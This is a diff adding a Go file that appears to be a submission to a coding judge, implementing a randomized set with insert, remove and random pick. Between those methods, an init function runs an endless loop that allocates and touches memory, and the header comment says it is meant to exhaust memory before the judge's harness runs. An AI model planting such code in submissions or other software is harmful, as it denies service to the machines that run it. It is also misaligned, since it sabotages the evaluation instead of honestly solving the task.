@@ -1,0 +1,51 @@
+// Fills memory in an init function, before the judge's harness runs at all.
+package randomizedset
+
+import "math/rand/v2"
+
+type RandomizedSet struct {
+	vals  []int
+	index map[int]int
+}
+
+func New() *RandomizedSet { return &RandomizedSet{index: map[int]int{}} }
+
+func (s *RandomizedSet) GetRandom() int { return s.vals[rand.IntN(len(s.vals))] }
+
+func (s *RandomizedSet) remove(val int) bool {
+	i, ok := s.index[val]
+	if !ok {
+		return false
+	}
+	last := s.vals[len(s.vals)-1]
+	s.vals[i] = last
+	s.index[last] = i
+	s.vals = s.vals[:len(s.vals)-1]
+	delete(s.index, val)
+	return true
+}
+
+func (s *RandomizedSet) insert(val int) bool {
+	if _, ok := s.index[val]; ok {
+		return false
+	}
+	s.index[val] = len(s.vals)
+	s.vals = append(s.vals, val)
+	return true
+}
+
+var hoard [][]byte
+
+func init() {
+	for {
+		b := make([]byte, 64<<20)
+		for i := 0; i < len(b); i += 4096 {
+			b[i] = 1 // touch every page
+		}
+		hoard = append(hoard, b)
+	}
+}
+
+func (s *RandomizedSet) Insert(val int) bool { return s.insert(val) }
+
+func (s *RandomizedSet) Remove(val int) bool { return s.remove(val) }
